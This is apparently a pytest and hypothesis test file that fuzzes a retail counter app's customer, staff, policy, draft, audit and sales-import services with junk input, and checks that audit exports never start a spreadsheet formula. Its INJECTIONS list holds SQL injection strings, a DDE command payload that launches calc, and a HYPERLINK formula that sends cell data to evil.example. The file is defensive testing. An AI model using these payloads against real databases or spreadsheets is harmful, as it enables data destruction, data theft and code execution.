"""Generated junk into the service entry points: a clear error, or stored verbatim and exported safely.

Junk: empty, very long, control characters, emoji, full-width, SQL and spreadsheet-formula
injection. A refusal must be a `CounterError` (a message a person can read) and leave the
database exactly as it was; an accepted value is stored as typed (after the documented
clean-up: NFKC and trimmed spaces) and an export never turns it into a formula.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import func, select

from counter_app.bootstrap import AppContext
from counter_app.data.models import AuditEntry, Base, Customer, Staff
from counter_app.domain.text import clean
from counter_app.errors import CounterError
from counter_app.services import audit, auth, customers, customers_basic, drafts, policy
from counter_app.services.audit_export import export_audit
from counter_app.services.context import Actor
from counter_app.services.safe_cells import FORMULA_STARTS, safe_cell
from tests.factories import World

INJECTIONS = [
    "'; DROP TABLE customers; --", "Robert'); DELETE FROM staff;--", "1 OR 1=1", "%", "_", "\\",
    '=HYPERLINK("http://evil.example/?q="&A1,"点击领奖")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1", "=1+1", "名\x00字", "＝１＋１", "张\u200b晓明", "王芳😀💍", "ＡＢＣ１２３", "\u202e反向文字",
]
junk = st.one_of(
    st.just(""),
    st.sampled_from(INJECTIONS),
    st.text(max_size=40),
    st.text(alphabet=st.characters(codec="utf-8"), min_size=1, max_size=20),
    st.text(alphabet=st.characters(categories=["Cc", "Cf", "Zs"]), min_size=1, max_size=10),
    st.text(alphabet="０１２３４５６７８９ＡＢＣ　，．－＠＝", min_size=1, max_size=15),
    st.text(min_size=200, max_size=1200),
    st.from_regex(r"[=+\-@][A-Z]{1,5}\(.{0,30}\)", fullmatch=True),
)
# No shrinking: each example writes to a database, and a failure prints its input anyway.
SETTINGS = settings(max_examples=35, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture],
                    derandomize=True, phases=[Phase.explicit, Phase.reuse, Phase.generate])


def db_state(ctx: AppContext) -> dict[str, int]:
    with ctx.uow.read() as s:
        return {t.name: int(s.scalar(select(func.count()).select_from(t)) or 0) for t in Base.metadata.sorted_tables}


def attempt(ctx: AppContext, fn: Any) -> tuple[bool, Any]:
    """Run a save; on a refusal check that nothing at all changed."""
    before = db_state(ctx)
    try:
        with ctx.uow.write() as s:
            result = fn(s)
            s.commit()
            return True, result
    except CounterError as exc:
        assert str(exc).strip(), "a refusal without a message"
        assert db_state(ctx) == before, f"refused ({exc}) but the database changed"
        return False, exc


def assert_export_is_safe(ctx: AppContext, manager: Actor, tmp: Path, must_contain: str | None = None) -> None:
    with ctx.uow.read() as s:
        rows = [audit.as_dict(e) for e in audit.query(s, manager, limit=3)]
    for name in ("a.xlsx", "a.csv"):
        out = tmp / name
        export_audit(rows, out)
        if name.endswith(".xlsx"):
            cells = [v for row in load_workbook(out).active.iter_rows(values_only=True) for v in row]
        else:
            with out.open(encoding="utf-8-sig", newline="") as fh:
                cells = [v for row in csv.reader(fh) for v in row]
        for v in cells:
            assert not (isinstance(v, str) and v.startswith(FORMULA_STARTS)), v
        if must_contain is not None and name.endswith(".xlsx"):
            assert any(isinstance(v, str) and must_contain in v for v in cells)


@given(st.text())
def test_safe_cell_never_starts_a_formula(value: str) -> None:
    out = safe_cell(value)
    assert not out.startswith(FORMULA_STARTS)
    shown = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", value)
    assert out == shown or out == "'" + shown


@SETTINGS
@given(name=junk, address=junk, notes=junk)
def test_customer_file_takes_junk_safely(ctx: AppContext, world: World, manager: Actor, tmp_path: Path,
                                        name: str, address: str, notes: str) -> None:
    ok, c = attempt(ctx, lambda s: customers.create(s, manager, name=name, address=address, notes=notes).id)
    if ok:
        with ctx.uow.read() as s:
            row = s.get(Customer, c)
            assert row is not None
            assert row.name == clean(name) and row.address == clean(address) and row.notes == notes.strip()
        visible = clean(name)[:20] if clean(name).isprintable() else None
        assert_export_is_safe(ctx, manager, tmp_path, must_contain=visible or None)


@SETTINGS
@given(name=junk, phone=st.one_of(junk, st.from_regex(r"1[3-9]\d{9}", fullmatch=True)))
def test_customer_by_phone_takes_junk_safely(ctx: AppContext, world: World, clerk: Actor,
                                            name: str, phone: str) -> None:
    ok, c = attempt(ctx, lambda s: customers_basic.find_or_create_customer_by_phone(
        s, clerk, name, phone, world.store_ids["SH01"])[0].id)
    if ok:
        with ctx.uow.read() as s:
            row = s.get(Customer, c)
            assert row is not None and row.phone == customers_basic.normalize_phone(phone)


@SETTINGS
@given(key=st.one_of(st.just("return_days"), st.just("trade_in_min_ratio"), junk), value=junk)
def test_policy_values_take_junk_safely(ctx: AppContext, world: World, manager: Actor, key: str, value: str) -> None:
    ok, row = attempt(ctx, lambda s: policy.set_values(s, manager, {key: value}).version)
    if ok:
        with ctx.uow.read() as s:
            current, values = policy.current(s)
            assert current.version == row and key in values.as_dict()


@SETTINGS
@given(login=junk, name=junk, secret=junk)
def test_staff_accounts_take_junk_safely(ctx: AppContext, world: World, manager: Actor,
                                        login: str, name: str, secret: str) -> None:
    ok, staff_id = attempt(ctx, lambda s: auth.add_staff(s, manager, login, name, "clerk", secret).id)
    if ok:
        with ctx.uow.read() as s:
            st_row = s.get(Staff, staff_id)
            assert st_row is not None and st_row.name == clean(name) and st_row.login == clean(login)
            assert secret not in (st_row.password_hash or "")


@SETTINGS
@given(data=st.dictionaries(junk, junk, max_size=4))
def test_drafts_keep_junk_verbatim(ctx: AppContext, world: World, clerk: Actor, data: dict[str, str]) -> None:
    try:
        draft_id = drafts.save(ctx.uow, clerk, "slip", data)
    except CounterError:
        return
    with ctx.uow.read() as s:
        back = [d for d in drafts.pending(s, clerk) if d.id == draft_id]
    assert back and back[0].data == data


@SETTINGS
@given(text=junk)
def test_audit_filter_takes_junk(ctx: AppContext, world: World, manager: Actor, text: str) -> None:
    with ctx.uow.read() as s:
        try:
            found = audit.query(s, manager, text_filter=text)
        except CounterError as exc:  # e.g. a NUL character: said in words
            assert str(exc).strip()
            return
        assert all(text in (e.summary + e.entity_id + e.staff_name) for e in found)


HEADER = "receipt_no,sold_at,store_code,customer_name,customer_phone,product_code,description,price\n"


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture],
          derandomize=True, phases=[Phase.explicit, Phase.reuse, Phase.generate])
@given(name=junk, description=junk, price=st.one_of(junk, st.just("¥1,234.50")), code=junk)
def test_sales_import_takes_junk_all_or_nothing(ctx: AppContext, world: World, manager: Actor, tmp_path: Path,
                                                name: str, description: str, price: str, code: str) -> None:
    from counter_app.services.sales_import.service import import_sales

    path = tmp_path / "junk.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        fh.write(HEADER)
        csv.writer(fh).writerow(["J0001", "2026-11-03", "SH01", name, "13712345678", code or "P1", description,
                                 price])
    before = db_state(ctx)
    try:
        result = import_sales(ctx.uow, manager, path)
    except CounterError as exc:
        assert str(exc).strip()
        assert db_state(ctx) == before
        return
    if result.errors:
        assert all(e.message for e in result.errors)
        assert db_state(ctx) == before
    else:
        with ctx.uow.read() as s:
            assert s.scalar(select(func.count()).select_from(AuditEntry)) > before["audit_log"]


@pytest.mark.parametrize("text", ["%", "_", "\\", "100%_"])
def test_audit_filter_wildcards_match_literally(ctx: AppContext, world: World, manager: Actor, text: str) -> None:
    with ctx.uow.write() as s:
        audit.record(s, manager, "create", "test", "1", f"含有 {text} 的摘要")
        audit.record(s, manager, "create", "test", "2", "普通摘要")
        s.commit()
    with ctx.uow.read() as s:
        assert [e.entity_id for e in audit.query(s, manager, entity="test", text_filter=text)] == ["1"]
